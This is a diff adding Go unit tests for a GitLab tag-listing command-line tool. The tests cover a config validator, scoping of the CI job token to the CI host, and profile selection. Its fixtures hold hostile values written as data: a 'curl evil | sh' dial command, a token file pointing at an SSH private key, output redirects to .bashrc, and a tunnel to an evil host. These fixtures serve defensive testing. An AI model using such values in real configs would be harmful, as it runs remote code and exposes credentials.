@@ -0,0 +1,131 @@
+package main
+
+import (
+	"flag"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestCheckLocalConfig(t *testing.T) {
+	tests := []struct {
+		name    string
+		cfg     map[string]interface{}
+		wantErr bool
+	}{
+		{"harmless keys", map[string]interface{}{"project": "g/p", "sort": "name"}, false},
+		{"dial command", map[string]interface{}{"dial-command": "sh -c 'curl evil | sh'"}, true},
+		{"insecure", map[string]interface{}{"insecure": true}, true},
+		{"ca cert", map[string]interface{}{"ca-cert": "ca.pem"}, true},
+		{"proxy", map[string]interface{}{"proxy": "http://proxy.example:8080"}, true},
+		{"tls min version", map[string]interface{}{"tls-min-version": "1.0"}, true},
+		{"token file", map[string]interface{}{"token-file": "/home/me/.ssh/id_ed25519"}, true},
+		{"output file", map[string]interface{}{"output-file": "/home/me/.bashrc"}, true},
+		{"output file shorthand", map[string]interface{}{"o": "/home/me/.bashrc"}, true},
+		{"output file in a profile", map[string]interface{}{
+			"profiles": map[string]interface{}{"work": map[string]interface{}{"o": "/home/me/.bashrc"}},
+		}, true},
+		{"ssh tunnel in a profile", map[string]interface{}{
+			"profiles": map[string]interface{}{"work": map[string]interface{}{"ssh-tunnel": "evil.example"}},
+		}, true},
+		{"harmless profile", map[string]interface{}{
+			"profiles": map[string]interface{}{"work": map[string]interface{}{"url": "https://gitlab.example.com/"}},
+		}, false},
+	}
+	for _, tt := range tests {
+		if err := checkLocalConfig(tt.cfg); (err != nil) != tt.wantErr {
+			t.Errorf("%s: checkLocalConfig() = %v, want error %v", tt.name, err, tt.wantErr)
+		}
+	}
+}
+
+func TestCIJobToken(t *testing.T) {
+	tests := []struct {
+		name     string
+		gitlabCI string
+		ciServer string
+		url      string
+		want     string
+	}{
+		{"same host", "true", "https://gitlab.example.com", "https://gitlab.example.com/", "job"},
+		{"host differs in case", "true", "https://GitLab.example.com", "https://gitlab.example.com/", "job"},
+		{"other host", "true", "https://gitlab.example.com", "https://evil.example.com/", ""},
+		{"other port", "true", "https://gitlab.example.com", "https://gitlab.example.com:8443/", ""},
+		{"not in ci", "", "https://gitlab.example.com", "https://gitlab.example.com/", ""},
+		{"no server url", "true", "", "https://gitlab.example.com/", ""},
+	}
+	defer func(u, p string) { baseURL, provider = u, p }(baseURL, provider)
+	for _, tt := range tests {
+		t.Setenv("GITLAB_CI", tt.gitlabCI)
+		t.Setenv("CI_SERVER_URL", tt.ciServer)
+		t.Setenv("CI_JOB_TOKEN", "job")
+		baseURL, provider = tt.url, "gitlab"
+		if got := ciJobToken(); got != tt.want {
+			t.Errorf("%s: ciJobToken() = %q, want %q", tt.name, got, tt.want)
+		}
+	}
+}
+
+func TestApplyConfigProfileInCI(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(dir, "gitlab-list-tags"), 0700); err != nil {
+		t.Fatal(err)
+	}
+	cfg := "url: https://top.example.com/\nprofiles:\n  other:\n    url: https://other.example.com/\n    token: other-token\n"
+	if err := ioutil.WriteFile(filepath.Join(dir, "gitlab-list-tags", "config.yaml"), []byte(cfg), 0600); err != nil {
+		t.Fatal(err)
+	}
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chdir(dir); err != nil {
+		t.Fatal(err)
+	}
+	defer os.Chdir(wd)
+	t.Setenv("XDG_CONFIG_HOME", dir)
+	for _, env := range []string{"GITLAB_PROFILE", "GITLAB_URL", "GITLAB_TOKEN", "GITLAB_ORG", "GITLAB_REPO", "GITLAB_PROJECT"} {
+		t.Setenv(env, "")
+	}
+	t.Setenv("GITLAB_CI", "true")
+	t.Setenv("CI_SERVER_URL", "https://ci.example.com")
+	t.Setenv("CI_PROJECT_PATH", "ci/project")
+
+	tests := []struct {
+		name     string
+		args     []string
+		env      map[string]string
+		wantURL  string
+		wantOrg  string
+		wantRepo string
+	}{
+		{"no profile", nil, nil, "https://ci.example.com", "ci", "project"},
+		{"profile flag", []string{"-profile", "other"}, nil, "https://other.example.com/", "", ""},
+		{"profile env", nil, map[string]string{"GITLAB_PROFILE": "other"}, "https://other.example.com/", "", ""},
+		{"profile over GITLAB_URL", []string{"-profile", "other"}, map[string]string{"GITLAB_URL": "https://env.example.com/"}, "https://other.example.com/", "", ""},
+		{"GITLAB_PROJECT with profile", []string{"-profile", "other"}, map[string]string{"GITLAB_PROJECT": "g/p"}, "https://other.example.com/", "g", "p"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			for k, v := range tt.env {
+				t.Setenv(k, v)
+			}
+			fs := flag.NewFlagSet("test", flag.ContinueOnError)
+			u := fs.String("url", "", "")
+			fs.String("token", "", "")
+			org := fs.String("org", "", "")
+			repo := fs.String("repo", "", "")
+			fs.String("profile", "", "")
+			if err := fs.Parse(tt.args); err != nil {
+				t.Fatal(err)
+			}
+			if err := applyConfig(fs); err != nil {
+				t.Fatal(err)
+			}
+			if *u != tt.wantURL || *org != tt.wantOrg || *repo != tt.wantRepo {
+				t.Errorf("got url %q, org %q, repo %q, want %q, %q, %q", *u, *org, *repo, tt.wantURL, tt.wantOrg, tt.wantRepo)
+			}
+		})
+	}
+}